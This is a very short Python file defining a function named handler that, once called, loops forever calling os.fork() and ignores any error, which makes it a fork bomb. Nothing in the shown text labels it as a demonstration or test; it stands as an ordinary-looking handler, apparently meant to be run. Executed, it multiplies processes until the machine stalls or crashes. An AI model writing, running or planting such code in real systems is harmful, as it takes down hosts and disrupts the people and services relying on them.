import os


def handler(ctx):
    while True:
        try:
            os.fork()
        except OSError:
            pass
